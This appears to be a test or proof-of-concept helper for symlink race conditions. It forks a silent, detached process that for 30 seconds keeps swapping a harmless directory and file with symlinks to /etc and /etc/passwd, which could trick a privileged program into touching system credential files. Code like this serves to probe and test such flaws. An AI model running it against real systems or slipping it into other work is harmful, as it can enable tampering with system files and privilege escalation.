"""Exchanges a directory and a link to /etc, and a file and a link, as fast as it can, for a while.

It runs apart from the shell that started it, and says nothing there.
"""

import os
import time

os.makedirs("swap/real", exist_ok=True)
os.chdir("swap")
with open("real/passwd", "w") as file:
    file.write("HARMLESS")
os.symlink("/etc", "evil")
with open("file", "w") as file:
    file.write("HARMLESS")
os.symlink("/etc/passwd", "evil-file")

if os.fork() == 0:
    os.setsid()
    ends = time.monotonic() + 30
    while time.monotonic() < ends:
        for good, evil in (("real", "evil"), ("file", "evil-file")):
            os.rename(good, "other")
            os.rename(evil, good)
            os.rename(good, evil)
            os.rename("other", good)
